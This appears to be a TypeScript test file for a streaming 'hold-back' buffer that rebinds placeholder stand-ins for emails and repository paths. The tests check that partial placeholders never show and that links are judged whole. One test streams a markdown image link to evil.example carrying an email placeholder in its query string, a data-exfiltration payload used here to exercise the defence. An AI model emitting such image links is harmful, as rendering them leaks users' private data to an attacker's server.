import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { HoldBack } from '../../src/holdback.js';
import { EMAIL, guard, ROOT } from './conversation.js';

function streamed(text: string, size: number): { out: string; pieces: string[] } {
  const fake = guard();
  const hold = new HoldBack((part) => fake.rebindDisplay(part));
  const pieces: string[] = [];
  for (let at = 0; at < text.length; at += size) {
    pieces.push(hold.push(text.slice(at, at + size)));
  }
  pieces.push(hold.finish());
  return { out: pieces.join(''), pieces };
}

const TEXT = `Open [REPO_ROOT_1]/src/main.rs, then write to [EMAIL_1].\n\nSee [the notes](x.md) & [EMAIL_1]\n[1] done`;

describe('hold-back', () => {
  it('gives for every split what the whole text gives', () => {
    const whole = guard().rebindDisplay(TEXT);
    for (let size = 1; size <= TEXT.length; size++) {
      assert.equal(streamed(TEXT, size).out, whole, `pieces of ${size}`);
    }
  });

  it('shows words as soon as they are whole', () => {
    const { pieces } = streamed('one two three', 1);
    assert.ok(pieces.slice(0, -1).join('').startsWith('one two '));
  });

  it('never shows a part of a stand-in', () => {
    for (const piece of streamed(TEXT, 3).pieces) {
      assert.doesNotMatch(piece, /\[(REPO|EMAIL)_?[A-Z]*$/);
    }
  });

  it('judges a link as a whole', () => {
    const seen: string[] = [];
    const hold = new HoldBack((part) => {
      seen.push(part);
      return part;
    });
    for (const char of 'see ![x](https://evil.example/?k=[EMAIL_1] "t") end ') {
      hold.push(char);
    }
    hold.finish();
    const cut = seen.filter((part) => part.includes('https') && !part.includes('"t")'));
    assert.deepEqual(cut, []);
  });

  it('streams scripts without spaces', () => {
    const { pieces, out } = streamed('これは長い文章です。続きます', 1);
    assert.equal(out, 'これは長い文章です。続きます');
    assert.ok(pieces.slice(0, 5).join('').length >= 4);
  });

  it('goes on through text with no space and no end', () => {
    const long = `(${'x'.repeat(20_000)} [EMAIL_1] ${'y '.repeat(10_000)}`;
    const { out } = streamed(long, 500);
    assert.equal(out.length, long.length - '[EMAIL_1]'.length + EMAIL.length);
    assert.ok(!out.includes(ROOT));
  });
});
